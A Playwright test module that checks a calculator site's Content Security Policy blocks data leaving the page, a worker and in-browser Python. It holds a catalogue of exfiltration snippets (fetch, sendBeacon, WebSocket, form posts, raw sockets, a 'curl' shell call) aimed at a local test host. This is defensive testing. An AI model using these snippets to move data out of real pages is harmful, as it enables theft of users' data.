"""Eight ways out of the page, and of the Python inside it: each is tried towards a host that would answer."""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin

import pytest
from playwright.sync_api import Browser, Page, expect

from calculator.docsite import settings
from calculator.docsite.serve import serve

from .calculator_page import CalculatorPage
from .conftest import WATCH, Host

MARK = "leak"
PAGE_WAYS = {
    "fetch": "fetch(to, { mode: 'no-cors' })",
    "XHR": "new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', to); x.onloadend = done; x.send(); })",
    "WebSocket": "new Promise((done) => { const s = new WebSocket(to.replace('http', 'ws')); s.onerror = s.onopen = done; })",
    "beacon": "navigator.sendBeacon(to, 'x')",
    "image": "new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = to; })",
    "form": "(() => { const f = document.createElement('form'); f.action = to; f.method = 'post'; f.target = 'elsewhere'; document.body.append(f); f.submit(); f.remove(); })()",
    "worker import": "new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob([`import '${to}';`])), { type: 'module' }); w.onerror = done; setTimeout(done, 1500); })",
    "prefetch": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; l.onload = l.onerror = done; document.head.append(l); setTimeout(done, 1500); })",
}
"""What a script of the page can try; beside these eight a page can only be left, which no policy stops."""

WORKER_WAYS = {
    "fetch": PAGE_WAYS["fetch"],
    "XHR": PAGE_WAYS["XHR"],
    "WebSocket": PAGE_WAYS["WebSocket"],
    "EventSource": "new Promise((done) => { const e = new EventSource(to); e.onerror = e.onopen = () => { e.close(); done(); }; })",
    "worker import": "import(to).catch(() => 0)",
    "worker in the worker": "new Promise((done) => { const w = new Worker(to, { type: 'module' }); w.onerror = done; setTimeout(done, 1500); })",
}
PYTHON_WAYS = {
    "fetch": "import js; js.fetch(to)",
    "XHR": "import js; x = js.XMLHttpRequest.new(); x.open('GET', to); x.send()",
    "WebSocket": "import js; js.WebSocket.new(to.replace('http', 'ws'))",
    "EventSource": "import js; js.EventSource.new(to)",
    "open_url": "from pyodide.http import open_url; open_url(to)",
    "socket": "import socket; socket.create_connection((to.split('/')[2].split(':')[0], int(to.split(':')[2].split('/')[0])), 1).sendall(b'GET /leak HTTP/1.0\\r\\n\\r\\n')",
    "worker import": "from pyodide.code import run_js; run_js(f\"import('{to}')\")",
    "subprocess": "import os; os.system('curl ' + to)",
}
OPEN_PYTHON = """async (folder) => {
  const code = `import { loadPyodide } from "${folder}pyodide.mjs";
    const python = await loadPyodide({ indexURL: "${folder}" });
    onmessage = async ({ data: { code, to } }) => {
      let said = "ran";
      try {
        const made = python.runPython(code, { globals: python.toPy({ to }) });
        await Promise.race([made, new Promise((late) => setTimeout(late, 1500))]);
      } catch (refused) { said = String(refused).trim().split("\\\\n").pop(); }
      postMessage(said);
    };
    postMessage("ready");`;
  window.python = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })), { type: "module" });
  await new Promise((ready, failed) => { python.onmessage = ready; python.onerror = failed; });
}"""
RUN_PYTHON = """([code, to]) => new Promise((done) => { python.onmessage = ({ data }) => done(data); python.postMessage({ code, to }); })"""
MISSING_IN_A_WORKER = "() => [typeof Image, typeof document, typeof navigator.sendBeacon]"


@pytest.fixture(scope="module", params=["headers", "meta"])
def started(
    request: pytest.FixtureRequest, browser: Browser, with_headers: Host, with_meta_alone: Host
) -> Iterator[tuple[CalculatorPage, Host]]:
    """The calculator with data in it, and another origin that would gladly answer."""
    hosts = (with_headers, with_meta_alone)
    host, foreign = hosts if request.param == "headers" else hosts[::-1]
    context = browser.new_context(service_workers="block")
    context.add_init_script(WATCH)
    calculator = CalculatorPage(context.new_page(), host.url).open()
    calculator.type_case()
    calculator.answered()
    yield calculator, foreign
    context.close()


def leaked(foreign: Host) -> list[str]:
    return [path for _, path in foreign.seen if MARK in path]


def test_no_way_out_of_the_page_reaches_another_host(started: tuple[CalculatorPage, Host]) -> None:
    calculator, foreign = started
    for name, code in PAGE_WAYS.items():
        to = f"{foreign.url}{MARK}?page-{name.replace(' ', '-')}"
        calculator.page.evaluate(f"async (to) => {{ try {{ await ({code}); }} catch {{ return; }} }}", to)
    calculator.page.wait_for_timeout(300)
    assert leaked(foreign) == []
    refused = {one.split(" ")[0] for one in calculator.page.evaluate("window.violations")}
    assert {"connect-src", "img-src", "form-action"} <= refused


def test_no_way_out_of_the_worker_reaches_another_host(started: tuple[CalculatorPage, Host]) -> None:
    calculator, foreign = started
    for name, code in WORKER_WAYS.items():
        to = f"{foreign.url}{MARK}?worker-{name.replace(' ', '-')}"
        calculator.in_worker(
            f"async () => {{ const to = {to!r}; try {{ await ({code}); }} catch {{ return; }} }}"
        )
    assert calculator.in_worker(MISSING_IN_A_WORKER) == ["undefined"] * 3
    assert leaked(foreign) == []
    assert "connect-src" in " ".join(calculator.violations())


@pytest.fixture
def with_python(tmp_path: Path) -> Iterator[str]:
    """The calculator's page on a host that sends no policy, beside all that Pyodide publishes."""
    shutil.copytree(settings.SITE / "assets", tmp_path / "assets", copy_function=os.link)
    shutil.copytree(settings.SITE / "calculator", tmp_path / "calculator")
    (folder,) = (tmp_path / "assets/pyodide").iterdir()
    for name in ("pyodide.mjs", "python_stdlib.zip", "pyodide-lock.json"):
        shutil.copy(settings.ROOT / "calculator/web/node_modules/pyodide" / name, folder)
    server = serve(tmp_path, 0, headers=False)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/{folder.relative_to(tmp_path).as_posix()}/"
    server.shutdown()
    server.server_close()


def test_no_way_out_of_python_reaches_another_host(
    watched: Page, with_headers: Host, with_python: str
) -> None:
    """With the whole standard library and the doors to JavaScript, which our own Python has only in part."""
    watched.goto(urljoin(with_python, "/calculator/"))
    watched.evaluate(OPEN_PYTHON, with_python)
    said = {}
    for name, code in PYTHON_WAYS.items():
        to = f"{with_headers.url}{MARK}?python-{name.replace(' ', '-')}"
        said[name] = watched.evaluate(RUN_PYTHON, [code, to])
    assert watched.evaluate(RUN_PYTHON, ["1 / 0", ""]).startswith("ZeroDivisionError")
    assert watched.evaluate(RUN_PYTHON, [PYTHON_WAYS["open_url"], f"{with_python}pyodide.mjs"]) == "ran"
    assert leaked(with_headers) == [], said


def test_the_page_counts_what_would_get_through(started: tuple[CalculatorPage, Host]) -> None:
    """The control: the same ways towards the page's own host do arrive, and are counted aloud."""
    calculator, _ = started
    before = calculator.model("session.wire.count")
    for way in ("fetch", "XHR", "image", "prefetch"):
        to = f"{calculator.url}?{way}"
        calculator.page.evaluate(f"async (to) => {{ await ({PAGE_WAYS[way]}); }}", to)
    calculator.until("session.wire.count >= given", before + 4)
    expect(calculator.element.locator(".odr-callout--danger[data-requests]")).to_be_visible()
